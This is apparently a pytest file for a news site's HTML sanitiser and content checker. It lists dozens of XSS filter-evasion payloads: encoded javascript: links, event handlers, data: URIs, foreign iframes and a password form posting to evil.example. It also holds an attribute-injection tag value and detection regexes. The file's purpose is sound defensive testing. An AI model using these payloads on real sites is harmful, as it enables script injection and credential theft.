"""Hostile HTML in a post or page, written as an attacker would (OWASP's XSS filter-evasion patterns among
them): the check names each construct with a `body` line, the sanitiser leaves nothing of it that can run,
embeds come only from the configured hosts and sandboxed, and every page carries a Content-Security-Policy."""

from __future__ import annotations

import html
import re

import lxml.html
import markdown
import pytest

from conftest import ROOT, TinySite
from newsroom.site.build import load_settings
from refusals import body_lines_naming, lines_naming, problems

# name -> Markdown body. Each is the whole body of its own post, starting at line 7 of the file.
HOSTILE = {
    # javascript: links, spelled so that a search for the literal word misses them
    "entity-decimal-link": '<a href="&#106;avascript:alert(1)">report</a>',
    "entity-hex-no-semicolons-link": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">report</a>'
    ),
    "entity-zero-padded-link": (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">report</a>'
    ),
    "entity-colon-link": '<a href="javascript&colon;alert(1)">report</a>',
    "tab-entity-link": '<a href="java&#9;script:alert(1)">report</a>',
    "named-tab-entity-link": '<a href="jav&Tab;ascript:alert(1)">report</a>',
    "raw-tab-link": '<a href="java\tscript:alert(1)">report</a>',
    "newline-entity-link": '<a href="jav&#x0A;ascript:alert(1)">report</a>',
    "split-over-lines-link": '<a href="\njava\nscript:alert(1)">report</a>',
    "mixed-case-link": '<a href="JaVaScRiPt:alert(1)">report</a>',
    "leading-spaces-link": '<a href="   javascript:alert(1)">report</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">report</a>',
    "data-html-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">report</a>',
    "markdown-link": "[report](javascript:alert(1))",
    "markdown-entity-link": "[report](&#106;avascript:alert(1))",
    "autolink": "<javascript:alert(1)>",
    "reference-link": "See [the report][r].\n\n[r]: javascript:alert(1)",
    "reference-entity-link": "See [the report][r].\n\n[r]: &#106;avascript:alert(1)",
    # event handlers, with separators a whitespace-based filter does not expect
    "svg-onload": "<svg/onload=alert(1)>",
    "img-onerror": '<img src=x alt="chart" onerror=alert(1)>',
    "img-slash-onerror": '<img/src="x"/onerror="alert(1)"/alt="chart">',
    "img-onerror-over-two-lines": '<img src=x alt="chart" onerror\n=alert(1)>',
    "img-tab-javascript-src": '<img src="jav&#x09;ascript:alert(\'XSS\');" alt="chart">',
    "img-data-svg-src": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="chart">',
    "srcset-javascript": '<img src="https://example.org/a.png" srcset="&#106;avascript:alert(1) 2x" alt="chart">',
    "input-autofocus-onfocus": "<input/autofocus/onfocus=alert(1)>",
    "details-open-ontoggle": "<details/open/ontoggle=alert(1)><summary>More</summary></details>",
    "body-onload": "<body/onload=alert(1)>",
    # elements that load or run something, or change where the page's links and forms go
    "iframe-data": '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>',
    "iframe-foreign-host": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/collect"><input name="password"><button>Sign in</button></form>',
    "base": '<base href="https://evil.example/">',
    "style-element": '<style>body { background: url("https://evil.example/track") }</style>',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math-xlink": '<math><maction actiontype="statusline" xlink:href="&#106;avascript:alert(1)">Click</maction></math>',
    "svg-animate-href": (
        '<svg><a><animate attributeName="href" values="&#106;avascript:alert(1)"/><text y="20">Click</text></a></svg>'
    ),
    "style-expression": '<p style="width: expression(alert(1))">Results</p>',
    "style-url-javascript": '<p style="background:url(&#106;avascript:alert(1))">Results</p>',
}
# The same attacks in pages (About, Contact): the pages are published alongside the posts.
HOSTILE_PAGES = {"page-svg-onload": "<svg/onload=alert(1)>", "page-entity-link": HOSTILE["entity-decimal-link"]}

# What a sanitised fragment may never hold, however it was spelt.
FORBIDDEN_TAG = re.compile(
    r"<\s*/?\s*(script|style|iframe|frame|frameset|object|embed|applet|meta|base|link|form|input|button|textarea"
    r"|select|svg|math|animate|set|foreignobject|template|body|html|javascript|vbscript)\b",
    re.IGNORECASE,
)
TAG = re.compile(r"<[a-zA-Z][^>]*>")
QUOTED = re.compile(r"\"[^\"]*\"|'[^']*'")
EVENT_HANDLER = re.compile(r"[\s/]on[a-z]+\s*=", re.IGNORECASE)
ACTIVE_URL = ("javascript:", "vbscript:", "livescript:", "data:", "expression(")


C0_AND_SPACE = "".join(map(chr, range(0x21)))


def _as_a_browser_reads(value: str) -> str:
    """An attribute value as a browser's URL parser sees it: entities decoded, leading and trailing spaces
    and control characters stripped, tabs and newlines removed wherever they are, case folded."""
    return re.sub(r"[\t\n\r]", "", html.unescape(value).strip(C0_AND_SPACE)).lower()


def dangers(fragment: str) -> list[str]:
    """Everything in an HTML fragment that a browser could run or load; text content is harmless and ignored."""
    found = [f"element {match.group(0)!r}" for match in FORBIDDEN_TAG.finditer(fragment)]
    for tag in TAG.finditer(fragment):  # attribute names only: quoted values are data
        found += [f"event handler in {tag.group(0)!r}" for _ in EVENT_HANDLER.finditer(QUOTED.sub('""', tag.group(0)))]
    if fragment.strip():
        for element in lxml.html.fragment_fromstring(fragment, create_parent="div").iter():
            for name, value in element.attrib.items():
                if name.lower().startswith("on"):
                    found.append(f"event handler {name}={value!r}")
                seen = _as_a_browser_reads(value)
                found += [f"{name}={value!r}" for scheme in ACTIVE_URL if scheme in seen]
    return found


def rendered(body: str) -> str:
    """The post's HTML as the project's Markdown settings produce it (before any sanitising)."""
    settings = load_settings(ROOT / "pelicanconf.py")["MARKDOWN"]
    return markdown.Markdown(extensions=list(settings["extension_configs"]), output_format="html5").convert(body)


def clean(fragment: str, embed_hosts: tuple[str, ...] = ()) -> str:
    try:
        from newsroom.model.sanitize import clean_html
    except ImportError as error:
        pytest.fail(f"there is no page sanitiser: {error}")
    return clean_html(fragment, embed_hosts)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> tuple[TinySite, list[str]]:
    """One site holding every hostile post and page, and a harmless one; checked once."""
    site = TinySite(tmp_path_factory.mktemp("hostile"))
    (site.content / "images").mkdir(parents=True)
    for name, body in HOSTILE.items():
        site.post(name, Title=f"Quarterly update {name}", body=body)
    for name, body in HOSTILE_PAGES.items():
        site.file(f"pages/{name}.md", f"Title: About {name}\nSlug: {name}\nSummary: About us.\n\n{body}\n")
    site.post("harmless", Title="Quarterly update, harmless", body=HARMLESS)
    return site, problems(site)


HARMLESS = (
    "Revenue rose **12%** to [$1.9 billion](https://www.larkspur-energy.example/q3) "
    '(<a href="mailto:ir@larkspur-energy.example">ask IR</a>, <a href="tel:+12075550178">call</a>).\n\n'
    '<table><tr><th>Quarter</th><td><em>Q3</em></td></tr></table>\n\n<img src="/images/chart.png" alt="Chart">'
)


@pytest.mark.parametrize("name", HOSTILE)
def test_the_check_names_each_hostile_construct_in_a_post(hostile_site, name):
    _, found = hostile_site
    body_lines_naming(found, name, HOSTILE[name])


@pytest.mark.parametrize("name", HOSTILE_PAGES)
def test_the_check_names_each_hostile_construct_in_a_page(hostile_site, name):
    _, found = hostile_site
    assert lines_naming(found, f"pages/{name}.md", "body"), found


def test_harmless_html_and_links_are_not_reported(hostile_site):
    _, found = hostile_site
    assert [line for line in found if "/harmless.md" in line] == []


@pytest.mark.parametrize("name", HOSTILE)
def test_the_sanitiser_leaves_nothing_of_a_hostile_construct_that_can_run(name):
    written, before = HOSTILE[name], rendered(HOSTILE[name])
    assert dangers(written) or dangers(before), f"the test itself is wrong: {before!r} holds nothing dangerous"
    for fragment in (written, before):  # as raw HTML, and as the Markdown reader renders it
        after = clean(fragment)
        assert dangers(after) == [], (fragment, after)


def test_the_sanitiser_keeps_harmless_html_and_links():
    after = clean(rendered(HARMLESS))
    assert dangers(after) == []
    for kept in (
        'href="https://www.larkspur-energy.example/q3"',
        'href="mailto:ir@larkspur-energy.example"',
        'href="tel:+12075550178"',
        "<strong>12%</strong>",
        "<em>Q3</em>",
        "<table>",
        'alt="Chart"',
    ):
        assert kept in after, (kept, after)


VIDEO_HOST = "www.youtube-nocookie.com"
VIDEO = f"https://{VIDEO_HOST}/embed/kessler-ridge"


def test_the_sanitiser_keeps_an_embed_from_a_configured_host_with_a_sandbox():
    kept = clean(f'<iframe src="{VIDEO}" title="Opening day"></iframe>', (VIDEO_HOST,))
    frames = lxml.html.fragment_fromstring(kept, create_parent="div").findall(".//iframe")
    assert [frame.get("src") for frame in frames] == [VIDEO], kept
    assert frames[0].get("sandbox") is not None, kept


@pytest.mark.parametrize(
    "src",
    [
        f"https://{VIDEO_HOST}.evil.example/embed/x",  # the allowed name as a prefix of another host
        f"https://{VIDEO_HOST}@evil.example/embed/x",  # the allowed name as a user name
        f"https://evil.example/{VIDEO_HOST}/embed/x",  # the allowed name in the path
        f"https://evil.example/?u=https://{VIDEO_HOST}/",
        f"//evil.example/{VIDEO_HOST}",
        f"http://{VIDEO_HOST}/embed/x",  # the right host over plain http
    ],
    ids=["host-prefix", "user-name", "path", "query", "scheme-relative", "plain-http"],
)
def test_an_embed_pretending_to_come_from_the_configured_host_is_removed(site, src):
    site.post("p", body=f'<iframe src="{src}" title="x"></iframe>')
    found = problems(site, NEWSROOM_EMBED_HOSTS=[VIDEO_HOST])
    assert len(lines_naming(found, "posts/p.md", "body")) == 1, found
    after = clean(f'<iframe src="{src}" title="x"></iframe>', (VIDEO_HOST,))
    assert "<iframe" not in after, after


def test_an_embed_from_another_host_is_named_with_the_hosts_allowed(site):
    site.post("p", body=HOSTILE["iframe-foreign-host"])
    found = problems(site, NEWSROOM_EMBED_HOSTS=[VIDEO_HOST])
    lines = lines_naming(found, "posts/p.md", "body")
    assert len(lines) == 1 and "evil.example" in lines[0] and VIDEO_HOST in lines[0], found


def test_an_embed_from_a_configured_host_passes_the_check_and_is_built_sandboxed(site):
    site.post("video", Title="Kessler Ridge opening day", body=f'<iframe src="{VIDEO}" title="Opening day"></iframe>')
    assert problems(site, NEWSROOM_EMBED_HOSTS=[VIDEO_HOST]) == []
    page = site.build(NEWSROOM_EMBED_HOSTS=[VIDEO_HOST]) / "news/2026/kessler-ridge-opening-day/index.html"
    frames = lxml.html.parse(str(page)).getroot().findall(".//iframe")
    assert [frame.get("src") for frame in frames] == [VIDEO]
    assert frames[0].get("sandbox") is not None


def test_every_built_page_carries_a_content_security_policy_in_its_head(site):
    site.post("one", Title="Kessler Ridge opens")
    site.post("two", Title="Halvorsen survey starts", Audience="communities", Category="Events")
    site.file("pages/about.md", "Title: About\nSlug: about\nSummary: About us.\n\nWho we are.\n")
    output = site.build()
    pages = sorted(output.rglob("*.html"))
    assert len(pages) > 10  # articles, listings, audience pages, the page, search, 404
    without = []
    for page in pages:
        text = page.read_text(encoding="utf-8")
        head = lxml.html.document_fromstring(text).find("head")
        policies = [
            meta.get("content", "")
            for meta in head.iter("meta")
            if meta.get("http-equiv", "").lower() == "content-security-policy"
        ]
        if '<meta http-equiv="Content-Security-Policy"' not in text or not any(
            "default-src" in policy or "script-src" in policy for policy in policies
        ):
            without.append(page.relative_to(output).as_posix())
    assert without == [], without


# No markup (the checks refuse tags holding any), but unescaped in the theme's `<meta property="article:tag"
# content="…">` it would end the attribute and make the element a redirect to another site.
HOSTILE_TAG = 'wind" http-equiv="refresh" content="0;url=https://evil.example/'


@pytest.mark.parametrize(
    "environment",
    [{"trim_blocks": True, "extensions": []}, {}],
    ids=["written-out-without-autoescape", "empty"],
)
def test_the_theme_escapes_what_a_post_gives_whatever_jinja_environment_says(site, environment):
    """A JINJA_ENVIRONMENT written out whole without its 'autoescape' line (Pelican's own default does not
    escape) still renders a hostile tag as text on every page and feed that shows it."""
    site.post("kessler", Tags=HOSTILE_TAG)
    output = site.build(JINJA_ENVIRONMENT=environment)
    shown = [path for path in output.rglob("*") if path.is_file() and b"evil.example" in path.read_bytes()]
    assert shown, "the tag is on no page: the test would prove nothing"
    pages = [path for path in shown if path.suffix == ".html"]  # in a feed's XML text a quote is only text
    assert (
        pages and [p.relative_to(output).as_posix() for p in pages if b'http-equiv="refresh"' in p.read_bytes()] == []
    )


def test_a_jinja_environment_that_turns_escaping_off_is_refused_in_one_line(site):
    from newsroom.site.build import BuildFailed

    site.post("kessler", Tags=HOSTILE_TAG)
    with pytest.raises(BuildFailed) as refused:
        site.build(JINJA_ENVIRONMENT={"autoescape": False, "extensions": []})
    assert "JINJA_ENVIRONMENT: 'autoescape' is False (expected True, or no 'autoescape' entry" in str(refused.value)
    assert "Traceback" not in str(refused.value)
